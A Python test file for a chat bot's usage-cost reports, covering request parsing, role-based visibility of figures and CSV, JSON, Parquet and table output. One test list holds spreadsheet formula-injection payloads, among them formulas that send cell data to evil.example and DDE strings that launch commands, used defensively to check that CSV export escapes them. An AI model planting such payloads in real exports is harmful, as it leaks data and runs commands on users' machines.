"""Reports: asked in words, added up, shown to whom they may be shown, in every format."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.core.calendar import Calendar, zone
from bot.core.errors import NotUnderstood
from bot.core.values import RequestKind, Scope, Usage
from bot.costs.ledger import Ledger
from bot.costs.pricing import Prices
from bot.costs.viewer import OPERATOR, Viewer
from bot.reports.formats import COLUMNS, as_csv, as_json, as_parquet, columns, compact, dollars, table
from bot.reports.usage import (
    OTHERS,
    PRIVATE_CHANNELS,
    By,
    UsageRow,
    parse,
    permitted_rows,
    span,
    sum_rows,
    total,
    usage,
)
from storage.database import open_engine
from storage.engine import Engine
from tests.support.engines import database_url

TODAY = date(2026, 11, 23)
SURPLUS = ["lats month", "week month", "by day by day", "by day and person", "mayonnaise", "last", "csv csv"]
NOON = datetime(2026, 11, 23, 12, tzinfo=UTC).timestamp()
MONTH = span("month", TODAY)
CENT = Usage(output_tokens=1_000)  # on gpt-6-sol


@pytest.fixture
async def engine(tmp_path: Path) -> AsyncIterator[Engine]:
    """One cent each: ann and bob in #open, ann in the private #plans, cid in a DM of his own."""
    async with open_engine(database_url(tmp_path / "parley.db")) as engine:
        ledger = Ledger(engine, Prices(), Calendar(zone("UTC"), clock=lambda: NOON))
        await spend(ledger, "open", "ann")
        await spend(ledger, "open", "bob", kind="summary")
        await spend(ledger, "plans", "ann")
        await spend(ledger, "dm", "cid", model="gpt-99-sol")
        yield engine


async def spend(
    ledger: Ledger, channel: str, user: str, *, kind: RequestKind = "answer", model: str = "gpt-6-sol"
) -> None:
    entry = await ledger.open(Scope("T1", channel, user, "", kind), model, upper_bound=CENT, attempt=1)
    await ledger.settle(entry, CENT, outcome="ok")


PRIVATE = frozenset({"plans", "dm"})
ANN = Viewer("ann", private=PRIVATE, member_of=frozenset({"plans"}))
BOB = Viewer("bob", private=PRIVATE)
OWNER = replace(BOB, owns=frozenset({"open"}))
ADMIN = replace(BOB, admin=True)


@pytest.mark.parametrize(
    ("words", "first", "last", "by", "as_file"),
    [
        ("", "2026-11-01", "2026-11-30", "channel", False),
        ("today", "2026-11-23", "2026-11-23", "channel", False),
        ("week by person", "2026-11-23", "2026-11-29", "person", False),
        ("2026-02 by day csv", "2026-02-01", "2026-02-28", "day", True),
        ("CSV by Model month", "2026-11-01", "2026-11-30", "model", True),
        ("Last month, by people", "2026-10-01", "2026-10-31", "person", False),
        ("last\u00a0week as csv.", "2026-11-16", "2026-11-22", "channel", True),
        ("October", "2026-10-01", "2026-10-31", "channel", False),
        ("in dec per user", "2025-12-01", "2025-12-31", "person", False),
        ("march 2024", "2024-03-01", "2024-03-31", "channel", False),
        ("this week", "2026-11-23", "2026-11-29", "channel", False),
    ],
)
def test_a_report_is_asked_for_in_words(words: str, first: str, last: str, by: str, as_file: bool) -> None:
    question = parse(words, TODAY)
    assert (question.span.first.isoformat(), question.span.last.isoformat()) == (first, last)
    assert (question.by, question.csv) == ((by,), as_file)


@pytest.mark.parametrize("words", ["yesterday", "by", "by mood", "2026-13", "2026-10-05", "2026", *SURPLUS])
def test_other_words_are_answered_with_a_hint(words: str) -> None:
    with pytest.raises(NotUnderstood) as caught:
        parse(words, TODAY)
    assert "Try: today" in caught.value.notice


async def test_an_operator_reads_every_column(engine: Engine) -> None:
    rows = await usage(engine, "T1", MONTH, OPERATOR, by=("channel", "person", "model", "kind"))
    assert len(rows) == 4
    unpriced = next(row for row in rows if row.channel == "dm")
    assert (unpriced.user, unpriced.model, unpriced.kind) == ("cid", "gpt-99-sol", "answer")
    assert (unpriced.requests, unpriced.output_tokens, unpriced.unpriced) == (1, 1_000, 1)
    assert unpriced.cost_usd == 0
    assert total(rows).cost_usd == Decimal("0.03")


async def cents(engine: Engine, viewer: Viewer, by: By, **where: str) -> dict[str, int]:
    rows = await usage(engine, "T1", MONTH, viewer, by=(by,), where=where)
    return {getattr(row, {"person": "user"}.get(by, by)): row.requests for row in rows}


async def test_a_member_sees_own_figures_and_totals_of_channels_they_can_enter(engine: Engine) -> None:
    assert await cents(engine, BOB, "channel") == {"open": 2}
    assert await cents(engine, BOB, "person") == {"bob": 1, OTHERS: 1}
    assert await cents(engine, ANN, "channel") == {"open": 2, "plans": 1}
    assert await cents(engine, ANN, "kind") == {"answer": 2, "summary": 1}


async def test_an_owner_sees_the_people_of_the_channel(engine: Engine) -> None:
    assert await cents(engine, OWNER, "person") == {"ann": 1, "bob": 1}


async def test_an_admin_sees_all_figures_but_not_the_names_of_private_channels(engine: Engine) -> None:
    assert await cents(engine, ADMIN, "channel") == {"open": 2, PRIVATE_CHANNELS: 2}
    assert await cents(engine, ADMIN, "person") == {"ann": 2, "bob": 1, "cid": 1}


async def test_asking_for_one_person_shows_nothing_that_may_not_be_shown(engine: Engine) -> None:
    assert await cents(engine, BOB, "model", person="ann") == {}
    assert await cents(engine, BOB, "model", person="bob") == {"gpt-6-sol": 1}
    assert await cents(engine, OWNER, "channel", person="ann") == {"open": 1}
    assert await cents(engine, ADMIN, "kind", person="ann") == {"answer": 2}
    assert await cents(engine, BOB, "day", channel="plans") == {}


async def test_another_team_sees_nothing(engine: Engine) -> None:
    assert await usage(engine, "T2", MONTH, OPERATOR) == []


names = st.sampled_from(["open", "plans", "dm", ""])
people = st.sampled_from(["ann", "bob", "cid"])
some_rows = st.lists(st.builds(UsageRow, channel=names, user=people, requests=st.integers(1, 9)), max_size=20)
viewers = st.builds(
    Viewer,
    people,
    st.booleans(),
    st.frozensets(st.sampled_from(["open", "plans"])),
    st.just(PRIVATE),
    st.frozensets(st.sampled_from(["plans", "dm"])),
)


@given(some_rows, viewers)
def test_nobody_reads_a_name_that_is_not_for_them(rows: list[UsageRow], viewer: Viewer) -> None:
    for row in permitted_rows(rows, viewer):
        assert row.channel not in PRIVATE - viewer.member_of
        assert viewer.admin or row.user in (viewer.user, OTHERS) or row.channel in viewer.owns


@given(some_rows, st.sampled_from([(), ("channel",), ("person",), ("channel", "person")]))
def test_adding_up_loses_nothing(rows: list[UsageRow], by: tuple[By, ...]) -> None:
    assert total(sum_rows(rows, by)).requests == sum(row.requests for row in rows)


HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/?", A1:E1), "//a")',
    "=cmd|' /C calc'!A0",
    "=1",
    "==1",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1)",
    "@",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1",
    "\xa0=1",
    "\u200b=1",
    "\ufeff=1",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_of_a_csv_is_a_formula(name: str) -> None:
    text = as_csv(
        [UsageRow(team="T1", channel=name, user='a "quoted", name\r\n', cost_usd=Decimal("0.000000001"))]
    )
    heading, line = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(heading) == COLUMNS
    sheet = openpyxl.Workbook().active
    assert sheet is not None
    sheet.append(line)
    assert [cell.data_type for cell in sheet[1] if cell.value] == ["s"] * sum(bool(cell) for cell in line)
    shown = line[COLUMNS.index("channel")]  # with a mark behind whatever may begin a cell as well
    assert shown.startswith("'") and shown.replace("'", "") == name.replace("'", "")
    assert line[COLUMNS.index("user")] == 'a "quoted", name\r\n'
    assert line[COLUMNS.index("cost_usd")] == "0.000000001"


ROW = UsageRow(
    day="2026-11-23", team="T1", channel="C1", user="U1", model="gpt-6-sol", kind="answer", requests=1_234,
    input_tokens=5_600_000, cached_tokens=1_500, output_tokens=999, audio_seconds=90.0, images=2,
    cost_usd=Decimal("12.345678901"), unpriced=1,
)  # fmt: skip


def test_json_has_every_column_as_the_command_line_promises() -> None:
    (read,) = json.loads(as_json([ROW]))
    promised = (
        "team channel user model kind requests input_tokens cached_tokens output_tokens audio_seconds images"
    )
    assert {*promised.split(), "cost_usd", "unpriced"} <= read.keys()
    assert read["cost_usd"] == 12.345678901
    assert json.loads(as_json([])) == []


def test_parquet_keeps_types_and_exact_dollars() -> None:
    read = pq.read_table(io.BytesIO(as_parquet([ROW])))
    assert read.column_names == list(COLUMNS)
    assert read.to_pylist()[0]["cost_usd"] == Decimal("12.345678901")
    assert as_parquet([])


def test_the_table_is_aligned_and_totalled() -> None:
    other = UsageRow(channel="C2", requests=1, cost_usd=Decimal("0.0000456"))
    rows = [replace(ROW, day="", user="", model="", kind=""), other]
    assert table(rows, columns(rows)).splitlines() == [
        "channel  requests  input  cached  output    audio  images       cost  unpriced",
        "───────  ────────  ─────  ──────  ──────  ───────  ──────  ─────────  ────────",
        "C1          1,234   5.6M    1.5k     999  1.5 min       2     $12.35         1",
        "C2              1      0       0       0  0.0 min       0  $0.000046         0",
        "───────  ────────  ─────  ──────  ──────  ───────  ──────  ─────────  ────────",
        "total       1,235   5.6M    1.5k     999  1.5 min       2     $12.35         1",
    ]


@pytest.mark.parametrize(
    ("amount", "shown"),
    [
        ("0", "$0.00"),
        ("1234.5", "$1,234.50"),
        ("0.01", "$0.01"),
        ("0.0138", "$0.014"),
        ("0.00231", "$0.0023"),
        ("0.000000005", "$0.000000005"),
    ],
)
def test_small_amounts_keep_two_digits(amount: str, shown: str) -> None:
    assert dollars(Decimal(amount)) == shown


def test_large_counts_are_short() -> None:
    assert [compact(n) for n in (999, 1_000, 1_250_000, 3 * 10**9)] == ["999", "1.0k", "1.2M", "3.0G"]
